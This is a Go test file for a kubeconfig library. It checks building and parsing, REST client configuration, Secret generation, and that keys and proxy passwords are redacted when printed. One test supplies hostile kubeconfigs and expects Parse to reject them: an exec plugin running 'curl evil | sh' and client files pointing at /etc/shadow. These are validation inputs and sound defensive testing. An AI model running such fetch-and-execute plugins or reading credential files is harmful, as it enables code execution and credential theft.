package kubeconfig_test

import (
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	clocktesting "k8s.io/utils/clock/testing"
	"k8s.io/utils/ptr"

	authv1beta1 "github.com/kubepact/kubepact/apis/authentication/v1beta1"
	"github.com/kubepact/kubepact/csr"
	"github.com/kubepact/kubepact/keys"
	"github.com/kubepact/kubepact/kubeconfig"
)

const (
	providerID   = "cl-provider"
	consumerID   = "cl-consumer"
	identityName = "controlplane-cl-provider"
	server       = "https://provider.example:6443"
	proxyURL     = "http://proxy.example:3128"
	tenantNS     = "liqo-tenant-cl-consumer"
)

var epoch = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

type credentials struct {
	ca   []byte
	cert []byte
	key  *keys.PrivateKey
}

// newCredentials issues a client certificate for consumerID with the csr
// package, as a provider would.
func newCredentials(t *testing.T) credentials {
	t.Helper()
	caPEM, caKey, err := csr.GenerateCA(nil, "provider-ca", epoch, 365*24*time.Hour)
	require.NoError(t, err)
	ca, err := csr.NewLocalCA(caPEM, caKey, &csr.LocalCAOptions{Clock: clocktesting.NewFakePassiveClock(epoch)})
	require.NoError(t, err)
	key, err := keys.Generate(nil, keys.Ed25519)
	require.NoError(t, err)
	req, err := csr.Create(nil, key, csr.ControlPlaneSubject(consumerID))
	require.NoError(t, err)
	checked, err := csr.Check(req, csr.ControlPlanePolicy(consumerID, key.Public()))
	require.NoError(t, err)
	cert, err := ca.Sign(t.Context(), csr.Request{CSR: checked, Lifetime: time.Hour})
	require.NoError(t, err)
	return credentials{ca: ca.Certificate(), cert: cert, key: key}
}

func (c credentials) params() kubeconfig.Params {
	return kubeconfig.Params{
		Name:        identityName,
		Server:      server,
		CA:          c.ca,
		Certificate: c.cert,
		Key:         c.key,
		Namespace:   tenantNS,
		ProxyURL:    proxyURL,
	}
}

func (c credentials) identity() *authv1beta1.Identity {
	return &authv1beta1.Identity{
		ObjectMeta: metav1.ObjectMeta{Name: identityName, Namespace: "liqo-tenant-cl-provider"},
		Spec: authv1beta1.IdentitySpec{
			ClusterID: providerID,
			Type:      authv1beta1.ControlPlaneIdentityType,
			AuthParams: authv1beta1.AuthParams{
				CA: c.ca, SignedCRT: c.cert, APIServer: server, ProxyURL: ptr.To(proxyURL),
			},
			Namespace: ptr.To(tenantNS),
		},
	}
}

func keyPEM(t *testing.T, k *keys.PrivateKey) []byte {
	t.Helper()
	b, err := keys.MarshalPrivateKey(k)
	require.NoError(t, err)
	return b
}

// requireConfig checks every field of c against p.
func requireConfig(t *testing.T, p kubeconfig.Params, c *kubeconfig.Config) {
	t.Helper()
	require.Equal(t, p.Server, c.Server())
	require.Equal(t, p.ProxyURL, c.ProxyURL())
	require.Equal(t, p.Namespace, c.Namespace())
	require.Equal(t, consumerID, c.User())
	cert, err := c.ClientCertificate()
	require.NoError(t, err)
	want, err := csr.ParseCertificate(p.Certificate)
	require.NoError(t, err)
	require.True(t, want.Equal(cert))

	api := c.API()
	require.Equal(t, p.Name, api.CurrentContext)
	kctx := api.Contexts[api.CurrentContext]
	require.NotNil(t, kctx)
	require.Equal(t, p.Namespace, kctx.Namespace)
	cluster := api.Clusters[kctx.Cluster]
	require.NotNil(t, cluster)
	require.Equal(t, p.Server, cluster.Server)
	require.Equal(t, p.CA, cluster.CertificateAuthorityData)
	require.Equal(t, p.ProxyURL, cluster.ProxyURL)
	user := api.AuthInfos[kctx.AuthInfo]
	require.NotNil(t, user)
	require.Equal(t, p.Certificate, user.ClientCertificateData)
	require.Equal(t, keyPEM(t, p.Key), user.ClientKeyData)
}

func TestBuildMarshalParse(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	withoutOptional := creds.params()
	withoutOptional.Namespace, withoutOptional.ProxyURL = "", ""
	socks := creds.params()
	socks.ProxyURL = "socks5://proxy.example:1080"
	for name, p := range map[string]kubeconfig.Params{
		"every field":      creds.params(),
		"no optional":      withoutOptional,
		"SOCKS5 proxy URL": socks,
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			built, err := kubeconfig.Build(p)
			require.NoError(t, err)
			requireConfig(t, p, built)

			data, err := built.Marshal()
			require.NoError(t, err)
			parsed, err := kubeconfig.Parse(data)
			require.NoError(t, err)
			requireConfig(t, p, parsed)

			// clientcmd itself reads what Marshal writes.
			std, err := clientcmd.Load(data)
			require.NoError(t, err)
			require.Equal(t, p.Name, std.CurrentContext)
			require.Len(t, std.Contexts, 1)
			require.Len(t, std.Clusters, 1)
			require.Len(t, std.AuthInfos, 1)
		})
	}
}

func TestAPIReturnsACopy(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	c, err := kubeconfig.Build(creds.params())
	require.NoError(t, err)
	api := c.API()
	api.Clusters[identityName].Server = "https://attacker.example"
	api.Contexts[identityName].Namespace = "kube-system"
	require.Equal(t, server, c.Server())
	require.Equal(t, tenantNS, c.Namespace())
}

// TestWithoutCA builds kubeconfigs for a provider whose API server has a
// publicly trusted certificate: no certificate-authority-data, so clients
// use their system roots.
func TestWithoutCA(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	for name, ca := range map[string][]byte{"nil": nil, "empty": {}} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := creds.params()
			p.CA = ca
			c, err := kubeconfig.Build(p)
			require.NoError(t, err)
			p.CA = nil
			requireConfig(t, p, c)

			data, err := c.Marshal()
			require.NoError(t, err)
			require.NotContains(t, string(data), "certificate-authority")
			parsed, err := kubeconfig.Parse(data)
			require.NoError(t, err)
			requireConfig(t, p, parsed)
			rc, err := parsed.RESTConfig()
			require.NoError(t, err)
			require.Empty(t, rc.CAData)
			require.Empty(t, rc.CAFile)

			id := creds.identity()
			id.Spec.AuthParams.CA = ca
			fromID, err := kubeconfig.FromIdentity(id, creds.key)
			require.NoError(t, err)
			require.Empty(t, fromID.API().Clusters[id.Name].CertificateAuthorityData)
		})
	}
}

func TestBuildErrors(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	tests := []struct {
		name   string
		modify func(*kubeconfig.Params)
	}{
		{name: "no name", modify: func(p *kubeconfig.Params) { p.Name = "" }},
		{name: "no server", modify: func(p *kubeconfig.Params) { p.Server = "" }},
		{name: "no certificate", modify: func(p *kubeconfig.Params) { p.Certificate = nil }},
		{name: "no key", modify: func(p *kubeconfig.Params) { p.Key = nil }},
		{name: "proxy URL with an unsupported scheme", modify: func(p *kubeconfig.Params) { p.ProxyURL = "ftp://proxy.example" }},
		{name: "everything missing", modify: func(p *kubeconfig.Params) { *p = kubeconfig.Params{} }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			p := creds.params()
			tt.modify(&p)
			c, err := kubeconfig.Build(p)
			require.ErrorIs(t, err, kubeconfig.ErrInvalid)
			require.Nil(t, c)
		})
	}
}

func TestParseErrors(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	c, err := kubeconfig.Build(creds.params())
	require.NoError(t, err)
	valid, err := c.Marshal()
	require.NoError(t, err)

	noCurrent := c.API()
	noCurrent.CurrentContext = ""
	noCurrentData, err := clientcmd.Write(*noCurrent)
	require.NoError(t, err)

	missingContext := c.API()
	missingContext.CurrentContext = "elsewhere"
	missingContextData, err := clientcmd.Write(*missingContext)
	require.NoError(t, err)

	tests := []struct {
		name string
		data []byte
	}{
		{name: "nil", data: nil},
		{name: "empty object", data: []byte("{}")},
		{name: "garbage", data: []byte("\x00\x01 not: [a kubeconfig")},
		{name: "a YAML list", data: []byte("- a\n- b\n")},
		{name: "wrong field types", data: []byte("clusters: 42\n")},
		{name: "oversized", data: append(bytes.Clone(valid), bytes.Repeat([]byte("\n"), kubeconfig.MaxSize)...)},
		{name: "no current context", data: noCurrentData},
		{name: "current context not defined", data: missingContextData},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			c, err := kubeconfig.Parse(tt.data)
			require.ErrorIs(t, err, kubeconfig.ErrMalformed)
			require.Nil(t, c)
		})
	}
}

func TestFromIdentity(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)

	t.Run("every field", func(t *testing.T) {
		t.Parallel()
		c, err := kubeconfig.FromIdentity(creds.identity(), creds.key)
		require.NoError(t, err)
		requireConfig(t, creds.params(), c)
	})
	t.Run("no namespace or proxy", func(t *testing.T) {
		t.Parallel()
		id := creds.identity()
		id.Spec.Namespace = nil
		id.Spec.AuthParams.ProxyURL = nil
		c, err := kubeconfig.FromIdentity(id, creds.key)
		require.NoError(t, err)
		p := creds.params()
		p.Namespace, p.ProxyURL = "", ""
		requireConfig(t, p, c)
	})
}

func TestFromIdentityErrors(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	tests := []struct {
		name   string
		modify func(*authv1beta1.Identity)
		key    *keys.PrivateKey
	}{
		{name: "no name", modify: func(id *authv1beta1.Identity) { id.Name = "" }, key: creds.key},
		{name: "no API server", modify: func(id *authv1beta1.Identity) { id.Spec.AuthParams.APIServer = "" }, key: creds.key},
		{name: "no certificate", modify: func(id *authv1beta1.Identity) { id.Spec.AuthParams.SignedCRT = nil }, key: creds.key},
		{name: "no key", modify: func(*authv1beta1.Identity) {}, key: nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			id := creds.identity()
			tt.modify(id)
			c, err := kubeconfig.FromIdentity(id, tt.key)
			require.ErrorIs(t, err, kubeconfig.ErrInvalid)
			require.Nil(t, c)
		})
	}
}

func TestRESTConfig(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	c, err := kubeconfig.Build(creds.params())
	require.NoError(t, err)
	rc, err := c.RESTConfig()
	require.NoError(t, err)
	require.Equal(t, server, rc.Host)
	require.Equal(t, creds.ca, rc.TLSClientConfig.CAData)
	require.Equal(t, creds.cert, rc.TLSClientConfig.CertData)
	got, err := keys.ParsePrivateKey(rc.TLSClientConfig.KeyData)
	require.NoError(t, err)
	require.True(t, keys.Equal(creds.key.Public(), got.Public()))
	require.False(t, rc.TLSClientConfig.Insecure)

	require.NotNil(t, rc.Proxy)
	proxy, err := rc.Proxy(&http.Request{URL: &url.URL{Scheme: "https", Host: "provider.example:6443"}})
	require.NoError(t, err)
	require.Equal(t, proxyURL, proxy.String())

	// The TLS configuration is usable: client-go can build a transport from it.
	_, err = rc.TransportConfig()
	require.NoError(t, err)
	tlsCfg, err := rest.TLSConfigFor(rc)
	require.NoError(t, err)
	require.NotNil(t, tlsCfg.RootCAs)
	require.NotNil(t, tlsCfg.GetClientCertificate)
	clientCert, err := tlsCfg.GetClientCertificate(&tls.CertificateRequestInfo{})
	require.NoError(t, err)
	require.NotEmpty(t, clientCert.Certificate)
	leaf, err := x509.ParseCertificate(clientCert.Certificate[0])
	require.NoError(t, err)
	require.Equal(t, consumerID, leaf.Subject.CommonName)
}

func TestRESTConfigWithoutProxy(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	p := creds.params()
	p.ProxyURL = ""
	c, err := kubeconfig.Build(p)
	require.NoError(t, err)
	rc, err := c.RESTConfig()
	require.NoError(t, err)
	require.Nil(t, rc.Proxy)
}

// secretForms returns the encodings of k that must never be printed.
func secretForms(t *testing.T, k *keys.PrivateKey) []string {
	t.Helper()
	b := keyPEM(t, k)
	block, _ := pem.Decode(b)
	require.NotNil(t, block)
	forms := []string{string(b)}
	for line := range strings.Lines(string(b)) {
		line = strings.TrimSpace(line)
		if line != "" && !strings.HasPrefix(line, "-----") {
			forms = append(forms, line)
		}
	}
	forms = append(forms, base64.StdEncoding.EncodeToString(block.Bytes))
	return forms
}

func TestConfigPrintsRedacted(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	c, err := kubeconfig.Build(creds.params())
	require.NoError(t, err)
	forms := secretForms(t, creds.key)
	printed := []string{
		c.String(), c.GoString(),
		fmt.Sprintf("%v", c), fmt.Sprintf("%+v", c), fmt.Sprintf("%#v", c), fmt.Sprintf("%s", c),
		fmt.Sprintf("%q", c), fmt.Sprintf("%x", c),
		fmt.Sprintf("%+v", *c), fmt.Sprintf("%#v", *c),
		fmt.Sprintf("%+v", []*kubeconfig.Config{c}),
		fmt.Errorf("wrapped: %v", c).Error(),
	}
	for _, p := range printed {
		for _, f := range forms {
			require.NotContains(t, p, f)
		}
		require.NotContains(t, p, "PRIVATE KEY")
	}
	want := "kubeconfig(server=https://provider.example:6443 proxy=http://proxy.example:3128 user=cl-consumer namespace=liqo-tenant-cl-consumer)"
	require.Equal(t, want, fmt.Sprintf("%v", c))
	require.Equal(t, want, fmt.Sprintf("%#v", c))

	var nilConfig *kubeconfig.Config
	require.Equal(t, "kubeconfig(<nil>)", fmt.Sprintf("%v", nilConfig))
}

// proxyPassword is the password in the proxy URLs below, which nothing may
// print.
const proxyPassword = "proxy-password-7f3a"

// printedForms returns v printed with every fmt verb.
func printedForms(v any) []string {
	var out []string
	for _, verb := range []string{"%v", "%+v", "%#v", "%s", "%q", "%x", "%X", "%d"} {
		out = append(out, fmt.Sprintf(verb, v))
	}
	return out
}

// requireNoPassword fails t if any of out holds proxyPassword, as text or
// hex.
func requireNoPassword(t *testing.T, out ...string) {
	t.Helper()
	forms := []string{proxyPassword, fmt.Sprintf("%x", proxyPassword), fmt.Sprintf("%X", proxyPassword)}
	for _, o := range out {
		for _, f := range forms {
			require.NotContains(t, o, f)
		}
	}
}

func TestProxyPasswordPrintsRedacted(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	p := creds.params()
	p.ProxyURL = "http://proxy-user:" + proxyPassword + "@proxy.example:3128"
	c, err := kubeconfig.Build(p)
	require.NoError(t, err)
	require.Equal(t, p.ProxyURL, c.ProxyURL(), "the Config keeps the password, it only prints without it")

	out := append(printedForms(c), printedForms(p)...)
	out = append(out, printedForms(&p)...)
	out = append(out, printedForms([]any{c, p})...)
	requireNoPassword(t, out...)
	require.Equal(t, "kubeconfig(server=https://provider.example:6443 proxy=http://proxy-user:xxxxx@proxy.example:3128 user=cl-consumer namespace=liqo-tenant-cl-consumer)", c.String())
	require.Equal(t, "kubeconfig.Params(name=controlplane-cl-provider server=https://provider.example:6443 namespace=liqo-tenant-cl-consumer proxy=http://proxy-user:xxxxx@proxy.example:3128)", p.String())

	// A password in the server URL is redacted the same way.
	p.Server = "https://admin:" + proxyPassword + "@provider.example:6443"
	c, err = kubeconfig.Build(p)
	require.NoError(t, err)
	requireNoPassword(t, append(printedForms(c), printedForms(p)...)...)

	// Params with a proxy URL that is not a URL with a host prints none of it.
	p.ProxyURL = "proxy-user:" + proxyPassword + "@proxy.example:3128"
	requireNoPassword(t, printedForms(p)...)
}

// badProxyURLs are proxy URLs that carry proxyPassword and that Build and
// Parse refuse.
var badProxyURLs = map[string]string{
	"unsupported scheme":    "ftp://proxy-user:" + proxyPassword + "@proxy.example",
	"does not parse":        "http://proxy-user:" + proxyPassword + "@[::1",
	"bad port":              "http://proxy-user:" + proxyPassword + "/@proxy.example",
	"no scheme":             "proxy-user:" + proxyPassword + "@proxy.example:3128",
	"opaque with http":      "http:proxy-user:" + proxyPassword + "@proxy.example:3128",
	"control character":     "http://proxy-user:" + proxyPassword + "@proxy.example\n",
	"no host":               "http://proxy-user:" + proxyPassword + "@",
	"socks5 without a host": "socks5:" + proxyPassword,
}

func TestBuildRefusesBadProxyWithoutQuotingIt(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	for name, proxy := range badProxyURLs {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := creds.params()
			p.ProxyURL = proxy
			c, err := kubeconfig.Build(p)
			require.ErrorIs(t, err, kubeconfig.ErrInvalid)
			require.Nil(t, c)
			requireNoPassword(t, err.Error(), fmt.Sprintf("%+v", err), fmt.Sprintf("%#v", err))

			id := creds.identity()
			id.Spec.AuthParams.ProxyURL = &proxy
			c, err = kubeconfig.FromIdentity(id, creds.key)
			require.ErrorIs(t, err, kubeconfig.ErrInvalid)
			require.Nil(t, c)
			requireNoPassword(t, err.Error(), fmt.Sprintf("%+v", err))
		})
	}
}

func TestParseRefusesBadProxyWithoutQuotingIt(t *testing.T) {
	t.Parallel()
	creds := newCredentials(t)
	c, err := kubeconfig.Build(creds.params())
	require.NoError(t, err)
	for name, proxy := range badProxyURLs {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			api := c.API()
			api.Clusters[api.Contexts[api.CurrentContext].Cluster].ProxyURL = proxy
			data, err := clientcmd.Write(*api)
			require.NoError(t, err)
			got, err := kubeconfig.Parse(data)
			require.ErrorIs(t, err, kubeconfig.ErrMalformed)
			require.Nil(t, got)
			requireNoPassword(t, err.Error(), fmt.Sprintf("%+v", err), fmt.Sprintf("%#v", err))
		})
	}
}

func TestSecretName(t *testing.T) {
	t.Parallel()
	require.Equal(t, "kubeconfig-controlplane-cl-provider", kubeconfig.SecretName("controlplane-cl-provider"))
	require.Equal(t, "kubeconfig-resourceslice-slice-a", kubeconfig.SecretName("resourceslice-slice-a"))
}

func TestSecret(t *testing.T) {
	t.Parallel()
	data := []byte("apiVersion: v1\nkind: Config\n")
	controller := true
	owner := []metav1.OwnerReference{{
		APIVersion: "authentication.liqo.io/v1beta1", Kind: "Identity",
		Name: identityName, UID: "uid-1", Controller: &controller,
	}}
	identity := func(typ authv1beta1.IdentityType, name string, ns *string, uid string) *authv1beta1.Identity {
		return &authv1beta1.Identity{
			ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: "liqo-tenant-cl-provider", UID: types.UID(uid)},
			Spec:       authv1beta1.IdentitySpec{ClusterID: providerID, Type: typ, Namespace: ns},
		}
	}
	secret := func(name, typ string, annotations map[string]string, owners []metav1.OwnerReference) *corev1.Secret {
		return &corev1.Secret{
			TypeMeta: metav1.TypeMeta{APIVersion: "v1", Kind: "Secret"},
			ObjectMeta: metav1.ObjectMeta{
				Name:      "kubeconfig-" + name,
				Namespace: "liqo-tenant-cl-provider",
				Labels: map[string]string{
					"liqo.io/remote-cluster-id": providerID,
					"liqo.io/identity-type":     typ,
				},
				Annotations:     annotations,
				OwnerReferences: owners,
			},
			Type: corev1.SecretTypeOpaque,
			Data: map[string][]byte{"kubeconfig": data},
		}
	}
	tests := []struct {
		name string
		id   *authv1beta1.Identity
		want *corev1.Secret
	}{
		{
			name: "ControlPlane with namespace and UID",
			id:   identity(authv1beta1.ControlPlaneIdentityType, identityName, ptr.To(tenantNS), "uid-1"),
			want: secret(identityName, "ControlPlane", map[string]string{"liqo.io/remote-tenant-namespace": tenantNS}, owner),
		},
		{
			name: "ControlPlane without UID",
			id:   identity(authv1beta1.ControlPlaneIdentityType, identityName, ptr.To(tenantNS), ""),
			want: secret(identityName, "ControlPlane", map[string]string{"liqo.io/remote-tenant-namespace": tenantNS}, nil),
		},
		{
			name: "ControlPlane without namespace",
			id:   identity(authv1beta1.ControlPlaneIdentityType, identityName, nil, ""),
			want: secret(identityName, "ControlPlane", nil, nil),
		},
		{
			name: "ResourceSlice with namespace",
			id:   identity(authv1beta1.ResourceSliceIdentityType, "resourceslice-slice-a", ptr.To(tenantNS), ""),
			want: secret("resourceslice-slice-a", "ResourceSlice", nil, nil),
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			got := kubeconfig.Secret(tt.id, data)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Fatalf("Secret() mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// TestParseRefusesWhatPointsOutside checks that Parse opens no file and
// accepts no plugin a client would run.
func TestParseRefusesWhatPointsOutside(t *testing.T) {
	t.Parallel()
	base := `apiVersion: v1
kind: Config
current-context: c
contexts:
- name: c
  context: {cluster: c, user: u}
clusters:
- name: c
  cluster:
    server: https://example.com
%s
users:
- name: u
  user:
%s
`
	inlineCA := "    certificate-authority-data: " + base64.StdEncoding.EncodeToString([]byte("ca"))
	for name, tc := range map[string][2]string{
		"CA file":          {"    certificate-authority: /etc/kubernetes/pki/ca.crt", "    token: x"},
		"client cert file": {inlineCA, "    client-certificate: /etc/shadow\n    client-key: /etc/shadow"},
		"token file":       {inlineCA, "    tokenFile: /var/run/secrets/token"},
		"exec plugin":      {inlineCA, "    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']"},
		"auth provider":    {inlineCA, "    auth-provider:\n      name: oidc"},
	} {
		_, err := kubeconfig.Parse([]byte(fmt.Sprintf(base, tc[0], tc[1])))
		require.ErrorIs(t, err, kubeconfig.ErrMalformed, name)
	}
}
